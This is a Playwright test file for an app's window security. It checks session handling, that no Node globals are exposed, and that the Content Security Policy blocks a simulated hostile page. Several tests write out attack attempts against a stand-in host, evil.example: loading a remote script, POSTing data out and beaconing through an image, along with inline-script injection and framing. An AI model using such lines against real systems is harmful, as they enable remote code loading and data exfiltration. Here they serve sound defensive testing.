import { expect, test } from './app.ts';

test.describe('the window', () => {
  test('opens on the program and keeps no secret in its address', async ({ page }) => {
    await expect(page).toHaveTitle(/维权卷宗/u);
    expect(page.url()).not.toMatch(/token|key/u);
    await expect(page.locator('#root')).not.toBeEmpty();
  });

  test('still knows its session after a reload', async ({ page, driver }) => {
    await page.reload();
    const answer = await page.evaluate(async () => {
      if (window.dossierBridge !== undefined) return window.dossierBridge.call('session.read', {});
      const token = sessionStorage.getItem('dossier.token') ?? '';
      const headers = { 'content-type': 'application/json', 'x-dossier-token': token };
      return (await fetch('/api/call/session.read', { method: 'POST', headers, body: '{}' })).json();
    });
    expect(answer, driver).toMatchObject({ ok: true, value: { condition: 'empty', user: null } });
  });

  test('has nothing of Node and shows one bridge at most', async ({ page, driver }) => {
    const seen = await page.evaluate(() => ({
      node: ['require', 'process', 'module', 'Buffer', '__dirname'].filter((name) => name in globalThis),
      bridge: window.dossierBridge === undefined ? null : Object.keys(window.dossierBridge).toSorted(),
    }));
    expect(seen).toEqual({ node: [], bridge: driver === 'loopback' ? null : ['call', 'start'] });
  });
});

test.describe('a hostile page inside the window', () => {
  test('cannot run a script that is not ours', async ({ page, journey }) => {
    journey.console.allow(/Content Security Policy/u);
    const ran = await page.evaluate(async () => {
      const inline = document.createElement('script');
      inline.textContent = 'globalThis.ranInline = true';
      document.body.append(inline);
      const outside = document.createElement('script');
      outside.src = 'https://evil.example/x.js';
      const failed = new Promise((resolve) => outside.addEventListener('error', () => resolve(true)));
      document.body.append(outside);
      return { inline: 'ranInline' in globalThis, outsideFailed: await failed };
    });
    expect(ran).toEqual({ inline: false, outsideFailed: true });
  });

  test('cannot make code from text', async ({ page, journey }) => {
    journey.console.allow(/Content Security Policy/u);
    // In a turn of its own: what Playwright evaluates itself is exempt from the policy.
    const kind = await page.evaluate(async () => {
      const make = () => typeof Reflect.construct(Function, ['return 1']);
      const later = new Promise((resolve) => setTimeout(resolve)).then(make);
      return later.catch((error: unknown) => (error instanceof Error ? error.name : 'unknown'));
    });
    expect(kind).toBe('EvalError');
  });

  test('cannot send anything out', async ({ page, journey }) => {
    journey.console.allow(/Content Security Policy|Failed to load|violates|ERR_/u);
    const sent = await page.evaluate(async () => {
      const tried = await fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }).then(
        () => 'sent',
        () => 'stopped',
      );
      const image = new Image();
      const loaded = new Promise((resolve) => {
        image.addEventListener('load', () => resolve('sent'));
        image.addEventListener('error', () => resolve('stopped'));
      });
      image.src = 'https://evil.example/x.png';
      return [tried, await loaded];
    });
    expect(sent).toEqual(['stopped', 'stopped']);
  });

  test('cannot frame the program', async ({ page, journey }) => {
    journey.console.allow(/Content Security Policy|frame|ERR_BLOCKED/u);
    const framed = await page.evaluate(async () => {
      const frame = document.createElement('iframe');
      frame.src = '/index.html';
      const settled = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await settled;
      return frame.contentDocument?.getElementById('root') ?? null;
    });
    expect(framed).toBeNull();
  });
});
